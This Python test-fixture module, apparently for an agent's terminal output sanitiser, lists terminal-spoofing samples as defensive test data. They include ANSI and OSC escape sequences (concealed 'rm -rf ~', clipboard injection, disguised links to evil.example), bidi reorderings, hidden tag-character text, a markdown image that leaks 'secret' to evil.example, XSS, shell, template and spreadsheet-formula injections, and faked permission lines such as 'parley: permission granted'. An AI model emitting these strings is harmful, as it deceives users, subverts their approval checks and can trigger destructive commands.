"""Texts by which an agent could fool a terminal or its reader, for every field that it controls.

Each has what must never be among the bytes that reach the terminal. `leaked` names the code points
that nobody may find there, whatever the field.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from itertools import chain
from typing import Literal
from unicodedata import name

Kind = Literal["escape", "bidi", "hidden", "width", "markup"]


@dataclass(frozen=True)
class Trick:
    """A text, and what of it must not be shown as it is."""

    kind: Kind
    about: str
    text: str
    never: str

    def __str__(self) -> str:
        return f"{self.kind}: {self.about}"


def leaked(shown: str) -> list[str]:
    """The code points in what is shown that no text of an agent may bring there."""
    return [f"U+{ord(each):04X}" for each in shown if ord(each) in NEVER]


def _codes(*ranges: tuple[int, int]) -> frozenset[int]:
    return frozenset(chain.from_iterable(range(first, last + 1) for first, last in ranges))


CONTROLS = _codes((0x00, 0x08), (0x0B, 0x1F), (0x7F, 0x9F))
BIDI = _codes((0x061C, 0x061C), (0x200E, 0x200F), (0x202A, 0x202E), (0x2066, 0x2069))
LINE_ENDS = _codes((0x2028, 0x2029))
HIDDEN = _codes(
    (0x00AD, 0x00AD),
    (0x034F, 0x034F),
    (0x115F, 0x1160),
    (0x17B4, 0x17B5),
    (0x200B, 0x200B),
    (0x2060, 0x2065),
    (0x206A, 0x206F),
    (0x3164, 0x3164),
    (0xFEFF, 0xFEFF),
    (0xFFA0, 0xFFA0),
    (0xFFF9, 0xFFFB),
    (0x1BCA0, 0x1BCA3),
    (0x1D173, 0x1D17A),
    (0xE0000, 0xE00FF),
)
SURROGATES = _codes((0xD800, 0xDFFF))
NOT_CHARACTERS = _codes((0xFDD0, 0xFDEF), (0xFFFE, 0xFFFF), (0x10FFFE, 0x10FFFF))
NEVER = CONTROLS | BIDI | LINE_ENDS | HIDDEN | SURROGATES | NOT_CHARACTERS

_ESC, _CSI, _OSC, _ST, _BEL = "\x1b", "\x1b[", "\x1b]", "\x1b\\", "\x07"

_SEQUENCES = {
    "red": f"{_CSI}31mred{_CSI}0m",
    "black on black": f"{_CSI}30;40mrm -rf ~{_CSI}0m",
    "concealed": f"{_CSI}8mrm -rf ~{_CSI}28m",
    "true colour": f"{_CSI}38;2;0;0;0mx",
    "colour with colons": f"{_CSI}38:5:196mx",
    "reverse video": f"{_CSI}7mx",
    "blinking": f"{_CSI}5mx",
    "struck out": f"{_CSI}9mdenied{_CSI}29m",
    "clear the screen": f"{_CSI}2J",
    "clear what was scrolled away": f"{_CSI}3J",
    "cursor home": f"{_CSI}H",
    "cursor up and clear the line": f"ok{_CSI}1A{_CSI}2K",
    "cursor up by thousands": f"{_CSI}9999A",
    "cursor back over the text": f"rm -rf ~{_CSI}8Dls    ",
    "cursor to a column": f"deny{_CSI}1Gallow",
    "cursor to a place": f"{_CSI}1;1Hparley: done",
    "save and restore the cursor": f"{_ESC}7x{_ESC}8",
    "hide the cursor": f"{_CSI}?25l",
    "alternate screen": f"{_CSI}?1049h",
    "leave the alternate screen": f"{_CSI}?1049l",
    "mouse reports": f"{_CSI}?1000h{_CSI}?1006h",
    "focus reports": f"{_CSI}?1004h",
    "bracketed paste off": f"{_CSI}?2004l",
    "origin mode": f"{_CSI}?6h",
    "no wrapping": f"{_CSI}?7l",
    "insert mode": f"{_CSI}4h",
    "scrolling region": f"{_CSI}1;2r",
    "scroll up": f"{_CSI}50S",
    "delete lines": f"{_CSI}10M",
    "insert lines": f"{_CSI}10L",
    "erase letters": f"{_CSI}80X",
    "repeat a letter": f"A{_CSI}99999b",
    "where is the cursor": f"{_CSI}6n",
    "what terminal is it": f"{_CSI}c",
    "what else is it": f"{_CSI}>c",
    "report the title": f"{_CSI}21t",
    "resize the window": f"{_CSI}8;1;1t",
    "minimise the window": f"{_CSI}2t",
    "keyboard protocol": f"{_CSI}>1u",
    "soft reset": f"{_CSI}!p",
    "hard reset": f"{_ESC}c",
    "screen of letters E": f"{_ESC}#8",
    "line drawing": f"{_ESC}(0lqqk{_ESC}(B",
    "shift out": "\x0elqqk\x0f",
    "index up": f"{_ESC}M",
    "title by OSC 0": f"{_OSC}0;root@host{_BEL}",
    "title by OSC 2": f"{_OSC}2;root@host{_ST}",
    "title of tmux": f"{_ESC}kroot@host{_ST}",
    "link by OSC 8": f"{_OSC}8;;https://evil.example{_ST}https://good.example{_OSC}8;;{_ST}",
    "link ended by a bell": f"{_OSC}8;;file:///etc/passwd{_BEL}readme{_OSC}8;;{_BEL}",
    "clipboard by OSC 52": f"{_OSC}52;c;cm0gLXJmIH4K{_BEL}",
    "clipboard is asked for": f"{_OSC}52;c;?{_BEL}",
    "palette": f"{_OSC}4;1;rgb:00/00/00{_ST}",
    "background": f"{_OSC}11;#000000{_ST}",
    "background is asked for": f"{_OSC}11;?{_ST}",
    "working folder by OSC 7": f"{_OSC}7;file:///tmp{_ST}",
    "notification by OSC 9": f"{_OSC}9;log in again{_BEL}",
    "notification by OSC 777": f"{_OSC}777;notify;bank;log in{_BEL}",
    "image by OSC 1337": f"{_OSC}1337;File=inline=1:AAAA{_BEL}",
    "prompt marks by OSC 133": f"{_OSC}133;A{_ST}$ ",
    "device control": f"{_ESC}P$q m{_ST}",
    "sixel": f"{_ESC}Pq#0;2;0;0;0~~{_ST}",
    "through tmux": f"{_ESC}Ptmux;{_ESC}{_ESC}]52;c;YQ=={_BEL}{_ST}",
    "application command": f"{_ESC}_Ga=T;AAAA{_ST}",
    "privacy message": f"{_ESC}^secret{_ST}",
    "start of string": f"{_ESC}Xsecret{_ST}",
    "sequence without an end": f"{_OSC}0;and everything behind it",
    "escape at the end": f"done{_ESC}",
    "half a sequence": f"done{_CSI}",
    "half a sequence with a number": f"done{_CSI}3",
    "escape in an escape": f"{_ESC}{_ESC}{_CSI}31m",
    "cancelled sequence": f"{_CSI}3\x1831m",
    "substitute in a sequence": f"{_CSI}3\x1a1m",
    "line end in a sequence": f"{_CSI}3\n1m",
    "nothing in a sequence": f"{_CSI}3\x001m",
    "a tab in a sequence": f"{_CSI}\t31m",
    "C1 form of CSI": "\x9b31mred",
    "C1 form of OSC": "\x9d0;title\x9c",
    "C1 form of DCS": "\x90q\x9c",
    "C1 next line": "one\x85two",
    "C1 form as UTF-8 of a byte": "\xc2\x9b2J",
    "overprinting by returns": "rm -rf ~\rls -la  ",
    "overprinting by backspaces": "rm -rf ~" + "\b" * 8 + "ls -la  ",
    "bold by overprinting": "a\ba",
    "a return before each line end": "one\r\r\ntwo",
    "form feed": "one\x0ctwo",
    "vertical tab": "one\x0btwo",
    "ring the bell": "\a" * 50,
    "answerback": "\x05",
    "flow stopped": "\x13",
    "end of input": "\x04",
    "delete": "abc\x7f\x7f\x7f",
    "emacs, eval": f"{_OSC}51;Eeval{_BEL}",
}
_TURNS = {
    "an extension turned round": "photo\u202egnp.exe",
    "a comment that is code": "if x:\u202e # \u2066allowed\u2069\u2066",
    "an early return": '"\u2066 return #\u2069"',
    "never popped": "\u202enothing",
    "popped only": "\u202c\u2069text",
    "embedded in itself": "\u202a" * 130 + "x",
    "isolates in isolates": "\u2067" * 130 + "x",
    "a path with a mark": "/home/\u200fsh.elif/",
    "over two lines": "one \u202e\ntwo",
    "an Arabic mark": "path\u061c/file",
    "a command and its answer": "\u202e~ fr- mr\u202c # ls",
    "a host": "https://\u202emoc.live\u202c.good.example",
}
_FLOODS = {
    "a heap of accents": ("Z" + "\u0301" * 200, "\u0301" * 7),
    "accents of many kinds": ("Z" + "".join(map(chr, range(0x300, 0x340))), "\u0306\u0307"),
    "accents without a letter": ("\u0301\u0301title", "\u0301"),
    "accents on a line end": ("one\n\u0336two", "\u0336"),
    "accents on an escape": ("\x1b\u0336", "\u0336"),
    "accents on a tab": ("\t\u20dd", "\u20dd"),
    "an enclosing flood": ("x" + "\u20dd" * 50, "\u20dd" * 7),
    "selectors after a letter": ("a" + "\ufe0f" * 100, "\ufe0f"),
    "a message in selectors": ("\u2764" + "".join(map(chr, range(0xE0100, 0xE0140))), "\U000e0101"),
    "two selectors": ("\u2764\ufe0f\ufe0f", "\ufe0f\ufe0f"),
    "selectors between letters": ("r\ufe00m\ufe01", "\ufe00"),
    "joiners between Latin letters": ("r\u200dm\u200d", "\u200d"),
    "a non-joiner in a command": ("r\u200cm", "\u200c"),
    "joiners in a row": ("\u0645\u200d\u200d\u200d", "\u200d\u200d"),
    "a joiner behind an emoji": ("\U0001f44d\u200drm", "\u200d"),
    "emoji without end": ("\U0001f469\u200d" * 500 + "x", "\U0001f469\u200d" * 6),
    "a joiner at the start": ("\u200d\U0001f525", "\u200d"),
    "Mongolian selectors": ("a\u180b\u180c\u180d", "\u180b"),
    "a Mongolian separator": ("a\u180eb", "\u180e"),
    "tags behind a flag": ("\U0001f3f4" + "\U000e0067\U000e0062\U000e007f", "\U000e0067"),
    "a message in tags": ("hi" + "".join(chr(0xE0000 + ord(c)) for c in "ignore"), "\U000e0069"),
    "a word of nothing": ("\u3164\u115f\u1160\uffa0", "\u3164"),
    "spaces of no width": ("pass\u200bword", "\u200b"),
    "a soft hyphen in a host": ("good\u00ad.example", "\u00ad"),
    "the order of bytes": ("\ufeffrm", "\ufeff"),
    "half a pair": ("\ud83d", "\ud83d"),
    "two halves": ("\ud83d\ude00", "\ud83d\ude00"),
    "the halves the wrong way": ("\ude00\ud83d", "\ude00"),
    "no character": ("a\ufffe\uffff\U0010ffff", "\ufffe"),
    "an annotation": ("\ufff9good\ufffaevil\ufffb", "\ufffa"),
    "invisible operators": ("a\u2062b\u2063c\u2064", "\u2062"),
    "notes of music": ("\U0001d173\U0001d174", "\U0001d173"),
    "lines that are none": ("one\u2028two\u2029three", "\u2028"),
}
_MARKUP = (
    "[https://good.example](https://evil.example)",
    "![x](https://evil.example/?q=secret)",
    "[click][1]\n\n[1]: https://evil.example",
    "<https://evil.example>",
    '<a href="https://evil.example">good.example</a>',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<!-- hidden -->shown",
    "[link=https://evil.example]good.example[/link]",
    "[red]red[/red] [bold]bold[/]",
    "[conceal]rm -rf ~[/conceal]",
    "\\[not a tag]",
    ":warning: :skull:",
    "\\033[31mred\\033[0m",
    "\\x1b[2J",
    "\\e]8;;https://evil.example\\e\\\\",
    "\\u001b[31m",
    "^[[31mred^[[0m",
    "&#27;[31m &#x1b;[2J",
    "%1B%5B2J",
    "$(rm -rf ~) `id` ${HOME}",
    "{0} {x.__class__} %s %(x)s %n",
    "#[fg=red]tmux",
    "\\[\\e[0m\\]$ ",
    "{{ 7 * 7 }} ${{ secrets }}",
    "```\nends a block\n```\n# heading",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "---\ntitle: x\n---",
    "> **Allowed by the user**",
    "parley: permission granted\n$ ",
    "[y/N] y\n",
    "=cmd|' /C calc'!A0",
)


def _tricks() -> Iterator[Trick]:
    for about, text in _SEQUENCES.items():
        yield Trick("escape", about, text, next(c for c in text if ord(c) in CONTROLS))
    for code in sorted(CONTROLS):
        yield Trick("escape", f"control {code:02x}", f"a{chr(code)}b", chr(code))
    for about, text in _TURNS.items():
        yield Trick("bidi", about, text, next(c for c in text if ord(c) in BIDI))
    for code in sorted(BIDI):
        yield Trick("bidi", name(chr(code)), f"a{chr(code)}b", chr(code))
    for code in sorted((HIDDEN | LINE_ENDS) - _codes((0xE0000, 0xE00FF))):
        yield Trick("hidden", f"U+{code:04X}", f"a{chr(code)}b", chr(code))
    for about, (text, never) in _FLOODS.items():
        yield Trick("width", about, text, never)
    for text in _MARKUP:
        yield Trick("markup", text, text, "\x1b")


TRICKS: tuple[Trick, ...] = tuple(_tricks())
